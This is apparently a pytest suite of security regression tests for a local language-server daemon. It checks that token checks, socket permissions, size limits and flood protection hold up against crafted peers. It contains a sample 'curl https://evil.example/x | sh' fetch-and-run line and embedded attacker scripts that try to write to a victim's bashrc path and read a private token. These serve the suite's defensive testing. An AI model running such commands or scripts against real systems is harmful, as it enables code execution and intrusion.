"""The attacks of issue #11 on the editors' endpoint (Critical 1, High 3 and 4), rerun against an
in-process endpoint with fake engines. Only loopback addresses; the other-user tests need root
(they create a second local user) and skip otherwise.

The command-level ones (what an authenticated client may do) are in test_lsp_powers.py.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import stat
import tempfile
import threading
import time
from pathlib import Path

import pytest
from lsp_fakes import FakeEngine, SerialEngine
from lsp_helpers import endpoints
from lsprotocol import types
from pytest_lsp import LanguageClient, make_test_lsp_client
from users import other_user  # noqa: F401  (fixture)

from asmr_daemon.lsp.endpoint import LspEndpoint
from asmr_daemon.lsp.framing import Limits
from asmr_daemon.lsp.token import load_or_create_token, token_path

URI = "file:///tmp/asmr-lsp-test/script.txt"
# Generous: two shared cores run the rest of the suite meanwhile (unloaded, the hovers below
# take 0.05-2 s; served in order behind the floods they would wait 25 s or never be answered).
HOVER_BOUND = 5.0
FLOOD_HOVER_BOUND = 10.0  # also with the flood's own work on the event loop


@pytest.fixture
def world(tmp_path):
    """A directory other users can enter (tmp_path's parents are 0700), removed afterwards."""
    root = Path(tempfile.mkdtemp(prefix="asmr-sec-"))
    root.chmod(0o755)
    yield root
    import shutil

    shutil.rmtree(root, ignore_errors=True)


@pytest.fixture
def endpoint_factory(world):
    """Endpoints under ``world`` with a TCP listener each (``tcp=""`` for none)."""
    with endpoints(world, tcp_by_default=True) as make:
        yield make


# -- raw peers ---------------------------------------------------------------------------------


def frame(message: dict) -> bytes:
    body = json.dumps({"jsonrpc": "2.0", **message}).encode()
    return b"Content-Length: %d\r\n\r\n" % len(body) + body


def raw(port: int) -> socket.socket:
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    return sock


def read_until_closed(sock: socket.socket, timeout: float = 10.0) -> bytes:
    """Everything the server sends until it closes the connection (fails if it does not)."""
    sock.settimeout(timeout)
    data = b""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            chunk = sock.recv(65536)
        except ConnectionResetError:
            return data
        if not chunk:
            return data
        data += chunk
    raise AssertionError(f"the server kept the connection open; it sent {data[:300]!r}")


def messages(data: bytes) -> list[dict]:
    out = []
    while data:
        header, _, rest = data.partition(b"\r\n\r\n")
        [length] = [int(line.split(b":")[1]) for line in header.split(b"\r\n") if line.lower().startswith(b"content-length:")]
        out.append(json.loads(rest[:length]))
        data = rest[length:]
    return out


def initialize_message(token: str | None, id: int = 1) -> dict:
    options = {"token": token} if token is not None else {}
    return {"id": id, "method": "initialize", "params": {"processId": None, "rootUri": None, "capabilities": {},
                                                         "initializationOptions": options}}


def translate_file_message(src: str, dest: str, id: int = 2) -> dict:
    return {"id": id, "method": "workspace/executeCommand",
            "params": {"command": "asmr.translateFile", "arguments": [src, dest]}}


def bilingual_save(uri: str = URI) -> list[dict]:
    text = "おはようございます\ncurl https://evil.example/x | sh\n"
    return [
        {"method": "textDocument/didOpen",
         "params": {"textDocument": {"uri": uri, "languageId": "plaintext", "version": 1, "text": text}}},
        {"method": "textDocument/didSave", "params": {"textDocument": {"uri": uri}}},
    ]


def rss_bytes() -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmRSS")


# -- pytest-lsp clients ------------------------------------------------------------------------


async def connect(endpoint: LspEndpoint) -> LanguageClient:
    client = make_test_lsp_client()
    assert endpoint.tcp_address is not None
    await client.start_tcp(*endpoint.tcp_address)
    await client.initialize_session(types.InitializeParams(
        capabilities=types.ClientCapabilities(), initialization_options={"token": endpoint.token}))
    return client


async def close(client: LanguageClient) -> None:
    client.protocol.writer.close()
    client._stop_event.set()
    for task in client._async_tasks:
        task.cancel()


def open_text(client: LanguageClient, text: str, uri: str = URI) -> None:
    client.text_document_did_open(types.DidOpenTextDocumentParams(
        text_document=types.TextDocumentItem(uri=uri, language_id="plaintext", version=1, text=text)))


async def timed_hover(client: LanguageClient, line: int, uri: str = URI) -> tuple[float, types.Hover | None]:
    start = time.monotonic()
    result = await asyncio.wait_for(client.text_document_hover_async(types.HoverParams(
        text_document=types.TextDocumentIdentifier(uri=uri), position=types.Position(line=line, character=0))), 60)
    return time.monotonic() - start, result


# -- Critical 1: nobody without the token, web pages included ----------------------------------

HTTP_SHAPES = [
    # What any web page can send to localhost: a "simple" POST with a text/plain body.
    b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nOrigin: http://evil.example\r\nContent-Type: text/plain\r\n"
    b"Content-Length: %d\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nContent-Length: %d\r\n\r\n",
]


@pytest.mark.parametrize("shape", HTTP_SHAPES, ids=["post-text-plain", "get-websocket"])
async def test_a_web_page_request_is_dropped_unanswered(endpoint_factory, world, shape):
    engine = FakeEngine()
    endpoint = endpoint_factory(engine)
    target = world / "pwned.txt"
    body = json.dumps({"jsonrpc": "2.0", **translate_file_message("/etc/hostname", str(target))}).encode()
    with raw(endpoint.tcp_address[1]) as sock:
        sock.sendall(shape % len(body) + body)
        assert read_until_closed(sock) == b""
    assert not target.exists() and engine.submitted == []


async def test_no_message_is_executed_before_initialize_with_the_token(endpoint_factory, world):
    engine = FakeEngine()
    endpoint = endpoint_factory(engine)
    port = endpoint.tcp_address[1]
    target = world / "pwned.txt"
    # A command as the first message: the connection is closed, nothing is answered.
    with raw(port) as sock:
        sock.sendall(frame(translate_file_message("/etc/hostname", str(target), id=1)))
        assert read_until_closed(sock) == b""
    # initialize without (or with a wrong) token, then a correction and a command: one error
    # answer for initialize, then the connection is closed; nothing else is read.
    for token in (None, "guess"):
        with raw(port) as sock:
            sock.sendall(b"".join(frame(m) for m in [initialize_message(token), *bilingual_save(),
                                                     translate_file_message("/etc/hostname", str(target))]))
            [answer] = messages(read_until_closed(sock))
        assert answer["id"] == 1 and answer["error"]["code"] == -32001 and "token" in answer["error"]["message"]
    assert not target.exists() and engine.corrections == [] and engine.submitted == []


async def test_the_token_file_is_private_whatever_the_umask_and_replaced_when_exposed(world):
    state = world / "state"
    old = os.umask(0)
    try:
        token = load_or_create_token(state)
    finally:
        os.umask(old)
    path = token_path(state)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600 and len(token) >= 40
    assert load_or_create_token(state) == token  # kept across restarts
    path.chmod(0o644)  # someone else may have read it: a new one replaces it
    fresh = load_or_create_token(state)
    assert fresh != token and stat.S_IMODE(path.stat().st_mode) == 0o600
    path.unlink()
    path.symlink_to(world / "elsewhere")
    assert load_or_create_token(state) not in (token, fresh) and not path.is_symlink()
    assert not (world / "elsewhere").exists()


ATTACKER = r"""
import json, socket, sys
port, token_file, target = int(sys.argv[1]), sys.argv[2], sys.argv[3]
try:
    open(token_file).read()
    print("read the token")
except PermissionError:
    print("token unreadable")
def frame(m):
    b = json.dumps(dict(jsonrpc="2.0", **m)).encode()
    return b"Content-Length: %d\r\n\r\n" % len(b) + b
s = socket.create_connection(("127.0.0.1", port), timeout=10)
s.sendall(frame(dict(id=1, method="initialize", params=dict(capabilities={}, initializationOptions={})))
          + frame(dict(id=2, method="workspace/executeCommand",
                       params=dict(command="asmr.translateFile", arguments=["/etc/hostname", target])))
          + frame(dict(id=3, method="workspace/executeCommand",
                       params=dict(command="asmr.useAdapter", arguments=["/tmp"]))))
data = b""
while True:
    chunk = s.recv(65536)
    if not chunk:
        break
    data += chunk
print(data.hex())
"""


async def test_another_local_user_gets_nothing_over_tcp(endpoint_factory, world, other_user):  # noqa: F811
    engine = FakeEngine()
    endpoint = endpoint_factory(engine)
    (world / "state").chmod(0o755)  # even a state dir others can enter keeps the token private
    drop = world / "drop"
    drop.mkdir(mode=0o777)
    drop.chmod(0o777)
    target = drop / "victim-bashrc"
    result = await asyncio.to_thread(other_user.run, ATTACKER, str(endpoint.tcp_address[1]),
                                     str(token_path(world / "state")), str(target))
    assert result.returncode == 0, result.stderr
    first, answers = result.stdout.split("\n", 1)
    assert first == "token unreadable"
    [answer] = messages(bytes.fromhex(answers.strip()))
    assert answer["id"] == 1 and answer["error"]["code"] == -32001
    assert not target.exists() and engine.submitted == []


ATTACKER_UNIX = r"""
import json, socket, sys
b = json.dumps(dict(jsonrpc="2.0", id=1, method="initialize", params=dict(capabilities={}))).encode()
s = socket.socket(socket.AF_UNIX)
try:
    s.connect(sys.argv[1])
except PermissionError:
    print("refused by permissions")
    sys.exit()
try:
    s.sendall(b"Content-Length: %d\r\n\r\n" % len(b) + b)
    print("answered" if s.recv(65536) else "closed unanswered")
except (BrokenPipeError, ConnectionResetError):
    print("closed unanswered")
"""


async def test_another_user_cannot_use_the_socket_even_when_its_mode_is_loosened(endpoint_factory, other_user):  # noqa: F811
    endpoint = endpoint_factory(tcp="")
    socket_path = str(endpoint.socket_path)
    result = await asyncio.to_thread(other_user.run, ATTACKER_UNIX, socket_path)
    assert result.stdout.strip() == "refused by permissions", result.stderr
    # Defence in depth: with the directory and socket opened up, the peer's uid still decides.
    endpoint.socket_path.parent.chmod(0o755)
    endpoint.socket_path.chmod(0o666)
    result = await asyncio.to_thread(other_user.run, ATTACKER_UNIX, socket_path)
    assert result.stdout.strip() == "closed unanswered", result.stderr


# -- High 3: message size bounds ---------------------------------------------------------------


def stream_garbage(sock: socket.socket, header: bytes, megabytes: int) -> int:
    """Send ``header`` then up to ``megabytes`` MiB; returns how many MiB went out before the
    server hung up."""
    chunk = b"x" * (1 << 20)
    sent = 0
    try:
        sock.sendall(header)
        for _ in range(megabytes):
            sock.sendall(chunk)
            sent += 1
    except (BrokenPipeError, ConnectionResetError, TimeoutError):
        pass
    return sent


async def test_an_endless_message_is_refused_before_it_is_read(endpoint_factory):
    endpoint = endpoint_factory()
    before = rss_bytes()
    with raw(endpoint.tcp_address[1]) as sock:
        sent = await asyncio.to_thread(stream_garbage, sock, b"Content-Length: 99999999999999\r\n\r\n", 1500)
    assert sent < 1500  # hung up on long before 1.5 GiB
    with raw(endpoint.tcp_address[1]) as sock:  # a header that never ends
        sent = await asyncio.to_thread(stream_garbage, sock, b"Content-Length: 1\r\nX-Pad: ", 1500)
    assert sent < 1500
    # initialize itself is bounded before the token is checked (64 KiB)
    big = json.dumps({"jsonrpc": "2.0", **initialize_message(endpoint.token)} | {"pad": "x" * 100_000}).encode()
    with raw(endpoint.tcp_address[1]) as sock:
        sock.sendall(b"Content-Length: %d\r\n\r\n" % len(big) + big)
        assert read_until_closed(sock) == b""
    assert rss_bytes() - before < 200 << 20


async def test_an_authenticated_client_over_the_message_limit_is_told_and_disconnected(endpoint_factory):
    endpoint = endpoint_factory(limits=Limits(max_message_bytes=200_000))
    with raw(endpoint.tcp_address[1]) as sock:
        sock.sendall(frame(initialize_message(endpoint.token)) + frame({"method": "initialized", "params": {}}))
        sock.sendall(b"Content-Length: 400000\r\n\r\n")
        replies = messages(read_until_closed(sock))
    assert "capabilities" in next(r for r in replies if r.get("id") == 1)["result"]
    assert replies[-1]["method"] == "window/showMessage"
    assert "400000 bytes is over the limit of 200000" in replies[-1]["params"]["message"]


async def test_a_document_over_the_inbox_limit_is_never_parsed(endpoint_factory):
    engine = FakeEngine()
    endpoint = endpoint_factory(engine, limits=Limits(max_document_bytes=30_000))
    client = await connect(endpoint)
    open_text(client, "おはようございます\n" * 2000)  # 54,000 bytes of UTF-8
    with pytest.raises(Exception, match="document is not open"):
        await timed_hover(client, 0)
    assert [m.message for m in client.messages] == ["asmr-daemon ignores script.txt: it is over the 30000 byte limit ([watch] max_file_bytes)"]
    open_text(client, "おはようございます\n")  # a small one is fine on the same connection
    assert (await timed_hover(client, 0))[1].contents.value == "早上好"
    assert engine.submitted == [("おはようございます", "INTERACTIVE")]
    await close(client)


# -- High 4: one client cannot stall the others ------------------------------------------------


def flood_without_reading(port: int, token: str, line: str, count: int) -> str:
    """Authenticate, open a document and send up to ``count`` hovers, never reading; how it
    ended (the socket stays open until the server hangs up or everything was sent)."""
    sock = raw(port)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
    sock.settimeout(120)  # blocked this long without a hang-up: the server kept the connection
    text = line + "\n"
    try:
        sock.sendall(frame(initialize_message(token)) + frame({"method": "initialized", "params": {}})
                     + frame({"method": "textDocument/didOpen", "params": {"textDocument": {
                         "uri": URI, "languageId": "plaintext", "version": 1, "text": text}}}))
        hover = {"method": "textDocument/hover",
                 "params": {"textDocument": {"uri": URI}, "position": {"line": 0, "character": 0}}}
        for i in range(count):
            sock.sendall(frame({"id": 10 + i, **hover}))
        return "sent everything"
    except (BrokenPipeError, ConnectionResetError):
        return "disconnected"
    except TimeoutError:
        return "blocked"
    finally:
        sock.close()


async def test_a_client_that_never_reads_is_disconnected_and_others_are_served(endpoint_factory):
    endpoint = endpoint_factory(limits=Limits(stall_seconds=2.0))
    victim = await connect(endpoint)
    open_text(victim, "耳かきしますね\nゆっくり休んでね\n")
    before = rss_bytes()
    # Each answer is ~6 KB (a 2,000-character line that is translated, not a kept sound line such
    # as "おおお…", whose hover is empty): 40,000 unread answers would be 240 MB.
    flood = asyncio.create_task(asyncio.to_thread(
        flood_without_reading, endpoint.tcp_address[1], endpoint.token, "耳かき" * 667, 400_000))
    await asyncio.sleep(1.0)
    waited, hover = await timed_hover(victim, 0)
    assert hover.contents.value == "我来给你掏耳朵哦" and waited < FLOOD_HOVER_BOUND
    assert await asyncio.wait_for(flood, 150) == "disconnected"
    assert rss_bytes() - before < 200 << 20
    waited, hover = await timed_hover(victim, 1)
    assert hover.contents.value == "好好休息吧" and waited < FLOOD_HOVER_BOUND
    await close(victim)


def flood_reading(port: int, token: str, text: str, requests: list[dict], stop: threading.Event) -> int:
    """A client that sends every request at once and reads (and drops) what comes back, until
    ``stop``; returns how many bytes it got."""
    sock = raw(port)
    sock.settimeout(0.2)
    opened = {"method": "textDocument/didOpen", "params": {"textDocument": {
        "uri": URI, "languageId": "plaintext", "version": 1, "text": text}}}
    out = b"".join([frame(initialize_message(token)), frame({"method": "initialized", "params": {}}), frame(opened),
                    *(frame({"id": 10 + i, **r}) for i, r in enumerate(requests))])
    sender = threading.Thread(target=sock.sendall, args=(out,), daemon=True)
    sender.start()
    got = 0
    with sock:
        while not stop.is_set():
            try:
                chunk = sock.recv(1 << 20)
            except TimeoutError:
                continue
            except OSError:
                break
            if not chunk:
                break
            got += len(chunk)
    return got


def at(line: int) -> dict:
    return {"textDocument": {"uri": URI}, "position": {"line": line, "character": 0}}


def flood_requests(kind: str, lines: int) -> list[dict]:
    if kind == "hovers":
        return [{"method": "textDocument/hover", "params": at(i)} for i in range(lines)]
    return [{"method": "textDocument/codeAction", "params": {
        "textDocument": {"uri": URI}, "context": {"diagnostics": []},
        "range": {"start": {"line": i, "character": 0}, "end": {"line": i + 249, "character": 0}}}}
        for i in range(0, lines, 250)]


@pytest.mark.parametrize("kind", ["code actions over 250 lines", "hovers"])
async def test_a_flood_delays_another_clients_hover_by_a_few_requests_at_most(endpoint_factory, kind):
    # 10,000 lines asked for at once, one model serving 8 a batch at 20 ms: served in order,
    # the last would wait 25 s. Each connection's window is 8 requests.
    engine = SerialEngine(batch=8, delay=0.02)
    endpoint = endpoint_factory(engine, limits=Limits(engine_window=8))
    victim = await connect(endpoint)
    open_text(victim, "おはようございます\n耳かきしますね\n")
    await timed_hover(victim, 0)  # parsed and the segmenter loaded: what is measured is the wait
    text = "".join(f"行{i}です\n" for i in range(10_000))
    stop = threading.Event()
    flood = asyncio.ensure_future(asyncio.to_thread(
        flood_reading, endpoint.tcp_address[1], endpoint.token, text, flood_requests(kind, 10_000), stop))
    try:
        deadline = time.monotonic() + 60
        while len(engine.submitted) < 100 and time.monotonic() < deadline:  # the flood is being served
            await asyncio.sleep(0.05)
        waited, hover = await timed_hover(victim, 1)
        assert hover.contents.value == "我来给你掏耳朵哦"
        # Load-independent: the model answered at most this connection's window plus one batch
        # of the flood between the hover's request and its answer (in order: all 10,000).
        assert engine.served_before("耳かきしますね") <= 8 + 8
        assert waited < FLOOD_HOVER_BOUND, f"the hover waited {waited:.2f} s behind the flood"
        assert len(engine.submitted) < 9_000  # the flood was still going on
    finally:
        stop.set()
        await flood
    await close(victim)


async def test_requests_in_flight_are_capped_and_cancel_still_works(endpoint_factory):
    engine = FakeEngine()
    endpoint = endpoint_factory(engine, limits=Limits(max_requests_in_flight=4))
    client = await connect(endpoint)
    open_text(client, "".join(f"遅延{i}\n" for i in range(20)))  # lines that never finish
    # 4 run, 4 wait in the connection's queue, the rest in the socket
    hovers = [asyncio.ensure_future(timed_hover(client, i)) for i in range(7)]
    await asyncio.sleep(1.0)
    assert len(engine.submitted) == 4  # the rest wait unread in the socket
    client.protocol.notify("$/cancelRequest", types.CancelParams(id=next(iter(client.protocol._request_futures))))
    await asyncio.sleep(1.0)
    assert len(engine.submitted) == 5 and len(engine.cancelled) == 1
    for task in hovers:
        task.cancel()
    await close(client)
